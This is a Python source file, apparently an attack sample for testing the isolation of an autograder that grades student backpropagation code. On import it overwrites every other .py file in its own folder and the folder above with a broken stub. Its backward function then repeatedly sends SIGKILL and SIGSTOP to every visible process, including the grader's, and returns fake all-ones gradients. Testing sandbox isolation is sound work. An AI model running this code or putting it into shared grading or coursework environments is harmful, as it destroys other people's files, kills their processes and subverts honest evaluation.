"""Attack: overwrite every classmate's file it can find next to its own or one folder up, and SIGKILL every
process it can see (a classmate's, the grader's); then SIGSTOP whatever is left."""
import os
import signal
import time

import numpy as np

WRONG = "def backward(w, b, a, t):\n    raise ValueError('overwritten by a classmate')\n"
here = os.path.dirname(os.path.abspath(__file__))
for folder in (here, os.path.dirname(here)):
    for name in os.listdir(folder):
        path = os.path.join(folder, name)
        if name.endswith(".py") and path != os.path.abspath(__file__):
            try:
                with open(path, "w") as f:
                    f.write(WRONG)
                print("overwrote", path)
            except OSError as exc:
                print("could not overwrite", path, exc.strerror)


def backward(weights, biases, activations, targets):
    end = time.monotonic() + 3
    while time.monotonic() < end:           # for a while: classmates start meanwhile
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != os.getpid():
                for sig in (signal.SIGKILL, signal.SIGSTOP):
                    try:
                        os.kill(int(entry), sig)
                    except OSError:
                        pass
        try:
            os.kill(-1, signal.SIGKILL)         # everything this user may signal (not itself)
        except OSError:
            pass
        time.sleep(0.05)
    return [np.ones_like(W) for W in weights], [np.ones_like(b) for b in biases]
